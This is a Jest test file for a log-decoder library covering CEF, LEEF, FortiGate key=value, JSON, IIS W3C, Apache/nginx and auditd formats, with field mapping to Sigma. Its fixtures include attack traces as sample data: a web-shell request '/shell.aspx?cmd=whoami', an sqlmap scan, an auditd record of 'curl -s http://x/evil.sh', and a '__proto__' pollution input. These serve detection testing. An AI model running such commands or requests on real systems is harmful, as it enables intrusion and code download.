import { describe, expect, it } from '@jest/globals';
import { decodeAudit } from './audit.js';
import { decodeCef } from './cef.js';
import { decodeAuto, decodeContext } from './index.js';
import { decodeRfc3164 } from './syslog.js';
import { decodeJson } from './json.js';
import { decodeKv } from './kv.js';
import { decodeLeef } from './leef.js';
import type { DecodeContext } from './types.js';
import { decodeW3c } from './w3c.js';
import { decodeWeb } from './web.js';

function ctx(tz = 'Asia/Ho_Chi_Minh'): DecodeContext {
  const c = decodeContext(tz);
  c.receivedAt = Date.UTC(2026, 10, 22);
  return c;
}

const iso = (ms: number) => new Date(ms).toISOString();

describe('CEF', () => {
  it('unescapes header pipes and backslashes, extension equals and newlines, and keeps spaces in values', () => {
    const d = decodeCef(
      'CEF:0|Security|threat\\|manager|1.0|100|detected a \\\\ in packet|10|src=10.0.0.1 act=blocked a \\= b msg=line1\\nline2 suser=Nguyen Van A cs1Label=Rule Name cs1=Block all  ',
      ctx(),
    );
    expect(d.error).toBeUndefined();
    expect(d.fields).toMatchObject({
      'cef.device_vendor': 'Security',
      'cef.device_product': 'threat|manager',
      'cef.name': 'detected a \\ in packet',
      'cef.severity': '10',
      src: '10.0.0.1',
      act: 'blocked a = b',
      msg: 'line1\nline2',
      suser: 'Nguyen Van A',
      cs1Label: 'Rule Name',
      cs1: 'Block all',
    });
    expect(d.message).toBe('line1\nline2');
  });

  it('adds the Sigma firewall names from CEF, LEEF and FortiGate keys', () => {
    expect(
      decodeCef('CEF:0|V|P|1|1|x|5|src=1.1.1.1 dst=2.2.2.2 spt=1000 dpt=22 act=blocked', ctx()).fields,
    ).toMatchObject({
      src_ip: '1.1.1.1',
      dst_ip: '2.2.2.2',
      src_port: 1000,
      dst_port: 22,
      action: 'blocked',
    });
    expect(decodeLeef('LEEF:1.0|V|P|1|1|src=1.1.1.1\tdstPort=443', ctx()).fields).toMatchObject({
      src_ip: '1.1.1.1',
      dst_port: 443,
    });
    expect(
      decodeKv('logid=1 devid=F srcip=1.1.1.1 dstip=2.2.2.2 dstport=3389 action=deny', ctx()).fields,
    ).toMatchObject({
      src_ip: '1.1.1.1',
      dst_ip: '2.2.2.2',
      dst_port: 3389,
      action: 'deny',
    });
  });

  it('maps vendors to Sigma products and reads rt', () => {
    const d = decodeCef('CEF:0|Fortinet|Fortigate|7.0|1|x|5|rt=1700000000000 dvchost=fw1', ctx());
    expect([d.product, d.category, d.host, iso(d.time)]).toEqual([
      'fortigate',
      'firewall',
      'fw1',
      '2023-11-14T22:13:20.000Z',
    ]);
    const e = decodeCef('CEF:0|Cisco|ASA|9|1|x|5|rt=Jan 17 2020 08:52:09', ctx('UTC'));
    expect([e.product, iso(e.time)]).toEqual(['asa', '2020-01-17T08:52:09.000Z']);
    expect(decodeCef('CEF:0|only|three', ctx()).error).toBe('cef_bad_header');
  });
});

describe('LEEF', () => {
  it('1.0 uses tabs', () => {
    const d = decodeLeef('LEEF:1.0|Microsoft|MSExchange|2013|15345|src=10.50.1.1\tdst=2.10.20.20\tusrName=a b', ctx());
    expect(d.fields).toMatchObject({ 'leef.vendor': 'Microsoft', src: '10.50.1.1', dst: '2.10.20.20', usrName: 'a b' });
    expect(d.message).toBe('15345');
  });

  it('2.0 takes a custom delimiter, as a character or hex (x09, 0x5E)', () => {
    expect(decodeLeef('LEEF:2.0|Lancope|StealthWatch|1.0|41|^|src=10.0.1.8^dst=10.0.0.5', ctx()).fields).toMatchObject({
      src: '10.0.1.8',
      dst: '10.0.0.5',
    });
    expect(decodeLeef('LEEF:2.0|V|P|1.0|41|x09|src=10.0.1.8\tdst=10.0.0.5', ctx()).fields).toMatchObject({
      src: '10.0.1.8',
      dst: '10.0.0.5',
    });
    expect(decodeLeef('LEEF:2.0|V|P|1.0|41|0x5E|src=1^dst=2', ctx()).fields).toMatchObject({ src: '1', dst: '2' });
    expect(decodeLeef('LEEF:2.0|V|P|1.0|41|src=1\tdst=2', ctx()).fields).toMatchObject({ src: '1', dst: '2' });
  });

  it('reads devTime and rejects short headers', () => {
    expect(iso(decodeLeef('LEEF:1.0|V|P|1|1|devTime=2024-01-01T00:00:00Z', ctx()).time)).toBe(
      '2024-01-01T00:00:00.000Z',
    );
    expect(decodeLeef('LEEF:1.0|V|P', ctx()).error).toBe('leef_bad_header');
  });
});

describe('key=value', () => {
  it('reads quoted values with escapes and empty values', () => {
    const d = decodeKv('a=1 b="two words" c= d="q \\"x\\"" e=last', ctx());
    expect(d.fields).toEqual({ a: '1', b: 'two words', c: '', d: 'q "x"', e: 'last' });
    expect(decodeKv('no pairs here', ctx()).error).toBe('kv_no_pairs');
  });

  it('FortiGate tz forms and eventtime units', () => {
    expect(iso(decodeKv('date=2023-03-08 time=13:22:46 tz="UTC-5:00" devid=x', ctx()).time)).toBe(
      '2023-03-08T18:22:46.000Z',
    );
    expect(iso(decodeKv('eventtime=1702257752722386015 logid=1', ctx()).time)).toBe('2023-12-11T01:22:32.722Z');
    expect(iso(decodeKv('eventtime=1592961368 logid=1', ctx()).time)).toBe('2020-06-24T01:16:08.000Z');
  });
});

describe('JSON', () => {
  it('flattens generic objects and lifts time, host and message', () => {
    const d = decodeJson(
      '{"@timestamp":"2024-05-01T10:00:00Z","host":{"name":"web1"},"message":"hi","http":{"status":200}}',
      ctx(),
    );
    expect([iso(d.time), d.host, d.message, d.fields?.['http.status']]).toEqual([
      '2024-05-01T10:00:00.000Z',
      'web1',
      'hi',
      200,
    ]);
    expect(decodeJson('{bad', ctx()).error).toBe('json_invalid');
    expect(decodeJson('[1,2]', ctx()).error).toBe('json_not_object');
  });

  it('hands Windows events to the Windows module', () => {
    const d = decodeJson(
      JSON.stringify({
        EventID: 4688,
        Channel: 'Security',
        Hostname: 'DC01',
        EventTime: '2024-05-01 10:00:00',
        NewProcessName: 'C:\\Windows\\System32\\cmd.exe',
        CommandLine: 'cmd /c whoami',
      }),
      ctx(),
    );
    expect(d.product).toBe('windows');
    expect(d.fields?.EventID).toBe(4688);
    expect(d.fields?.CommandLine).toBe('cmd /c whoami');
  });

  it('decodes a raw syslog line shipped as the message of an agent document', () => {
    const d = decodeJson(
      JSON.stringify({
        '@timestamp': '2026-11-22T03:00:05Z',
        host: { name: 'srv1' },
        log: { file: { path: '/var/log/auth.log' } },
        message: 'Nov 22 09:59:58 srv1 sshd[77]: Failed password for root from 1.2.3.4 port 22 ssh2',
      }),
      ctx(),
    );
    expect([d.format, d.appname, d.procid, d.host, iso(d.time), d.message]).toEqual([
      'json-syslog',
      'sshd',
      '77',
      'srv1',
      '2026-11-22T02:59:58.000Z',
      'Failed password for root from 1.2.3.4 port 22 ssh2',
    ]);
    expect(d.fields?.['log.file.path']).toBe('/var/log/auth.log');
  });

  it('decodes JSON carried in syslog (NXLog to_json), Windows events included', () => {
    const body = JSON.stringify({ EventID: 4625, Channel: 'Security', Hostname: 'DC01', TargetUserName: 'admin' });
    const d = decodeRfc3164(`<14>Nov 22 10:00:00 relay nxlog: ${body}`, ctx());
    expect([d.host, d.product, d.fields?.EventID, d.fields?.TargetUserName]).toEqual([
      'DC01',
      'windows',
      4625,
      'admin',
    ]);
    const g = decodeRfc3164('<14>Nov 22 10:00:00 app1 myapp: {"user":"u","action":"login"}', ctx());
    expect([g.host, g.appname, g.fields?.user]).toEqual(['app1', 'myapp', 'u']);
  });

  it('reads Snare MSWinEventLog lines over syslog', () => {
    const d = decodeRfc3164(
      '<14>Nov 22 10:00:00 DC01 MSWinEventLog\t1\tSecurity\t123\tSun Nov 22 10:00:00 2026\t4625\tMicrosoft-Windows-Security-Auditing\tN/A\tN/A\tFailure Audit\tDC01.so.gov.vn\tLogon\t\tAn account failed to log on.\t42',
      ctx('UTC'),
    );
    expect([d.host, d.product, d.service, d.fields?.EventID, d.fields?.Channel, d.message, iso(d.time)]).toEqual([
      'DC01.so.gov.vn',
      'windows',
      'security',
      4625,
      'Security',
      'An account failed to log on.',
      '2026-11-22T10:00:00.000Z',
    ]);
  });

  it('drops __proto__ keys instead of changing prototypes', () => {
    const d = decodeJson('{"__proto__":{"polluted":1},"a":1}', ctx());
    expect(Object.getPrototypeOf(d.fields)).toBe(Object.prototype);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('W3C extended (IIS)', () => {
  it('keeps #Fields per stream, emits nothing for headers and maps Sigma names', () => {
    const c = ctx();
    expect(decodeW3c('#Software: Microsoft Internet Information Services 10.0', c).headerOnly).toBe(true);
    expect(decodeW3c('2024-01-01 00:00:01 10.0.0.1 GET / - 80', c).error).toBe('w3c_no_fields_header');
    expect(
      decodeW3c(
        '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken',
        c,
      ).headerOnly,
    ).toBe(true);
    const d = decodeW3c(
      '2024-01-01 00:00:01 10.0.0.1 GET /shell.aspx cmd=whoami 443 - 203.0.113.9 Mozilla/5.0+(Windows) - 200 0 0 15',
      c,
    );
    expect(iso(d.time)).toBe('2024-01-01T00:00:01.000Z');
    expect(d.fields).toEqual({
      date: '2024-01-01',
      time: '00:00:01',
      's-ip': '10.0.0.1',
      'cs-method': 'GET',
      'cs-uri-stem': '/shell.aspx',
      'cs-uri-query': 'cmd=whoami',
      's-port': 443,
      'c-ip': '203.0.113.9',
      'cs-user-agent': 'Mozilla/5.0+(Windows)',
      'sc-status': 200,
      'sc-substatus': 0,
      'sc-win32-status': 0,
      'time-taken': 15,
      'cs-uri': '/shell.aspx?cmd=whoami',
    });
    expect([d.product, d.category]).toEqual(['iis', 'webserver']);
  });
});

describe('web server logs', () => {
  it('combined access log -> Sigma webserver fields', () => {
    const d = decodeWeb(
      '203.0.113.9 - bob [10/Oct/2000:13:55:36 -0700] "GET /a/b.php?x=1&y=%27 HTTP/1.0" 404 2326 "http://ref/" "sqlmap/1.4 \\"q\\""',
      ctx(),
      'apache',
    );
    expect(iso(d.time)).toBe('2000-10-10T20:55:36.000Z');
    expect(d.fields).toEqual({
      'c-ip': '203.0.113.9',
      'cs-username': 'bob',
      'cs-method': 'GET',
      'cs-version': 'HTTP/1.0',
      'cs-uri': '/a/b.php?x=1&y=%27',
      'cs-uri-stem': '/a/b.php',
      'cs-uri-query': 'x=1&y=%27',
      'sc-status': 404,
      'sc-bytes': 2326,
      'cs-referer': 'http://ref/',
      'cs-user-agent': 'sqlmap/1.4 "q"',
    });
    expect([d.product, d.category]).toEqual(['apache', 'webserver']);
  });

  it('common log format and odd requests', () => {
    const d = decodeWeb('10.0.0.1 - - [10/Oct/2000:13:55:36 +0000] "\\x16\\x03" 400 -', ctx(), 'nginx');
    expect(d.fields?.['sc-status']).toBe(400);
    expect(d.fields?.['sc-bytes']).toBeUndefined();
  });

  it('nginx and Apache 2.4 error logs', () => {
    const n = decodeWeb(
      '2021/12/01 13:53:33 [error] 31#31: *46 open() failed, client: 172.17.0.1, server: x, request: "GET /a?b=1 HTTP/1.1", host: "h"',
      ctx('UTC'),
      'nginx',
    );
    expect([iso(n.time), n.procid, n.fields?.['c-ip'], n.fields?.['cs-uri-query'], n.fields?.['log.level']]).toEqual([
      '2021-12-01T13:53:33.000Z',
      '31',
      '172.17.0.1',
      'b=1',
      'error',
    ]);
    const a = decodeWeb(
      '[Wed Oct 11 14:32:52.123456 2000] [core:error] [pid 1234:tid 5678] [client 1.2.3.4:5678] AH00124: File does not exist',
      ctx('UTC'),
      'apache',
    );
    expect([iso(a.time), a.procid, a.fields?.['c-ip'], a.fields?.['log.level'], a.fields?.['apache.module']]).toEqual([
      '2000-10-11T14:32:52.123Z',
      '1234',
      '1.2.3.4',
      'error',
      'core',
    ]);
  });
});

describe('auditd', () => {
  const rec = 'type=EXECVE msg=audit(1604994496.155:92733): argc=3 a0="curl" a1="-s" a2="http://x/evil.sh"';

  it('reads bare records (auto-detected) with their own time and auditd field names', () => {
    const d = decodeAuto(rec, ctx());
    expect(d.format).toBe('auditd');
    expect(iso(d.time)).toBe('2020-11-10T07:48:16.155Z');
    expect([d.product, d.service]).toEqual(['linux', 'auditd']);
    expect(d.fields).toMatchObject({ type: 'EXECVE', a0: 'curl', a2: 'http://x/evil.sh' });
    expect(decodeAudit('type=X nothing', ctx()).error).toBe('auditd_bad_record');
  });

  it('reads records relayed by audispd over syslog, keeping the syslog host', () => {
    const d = decodeRfc3164(`<14>Nov 10 14:48:17 srv1 audispd: ${rec}`, ctx());
    expect([d.host, d.service, d.fields?.a0, iso(d.time)]).toEqual([
      'srv1',
      'auditd',
      'curl',
      '2020-11-10T07:48:16.155Z',
    ]);
  });
});
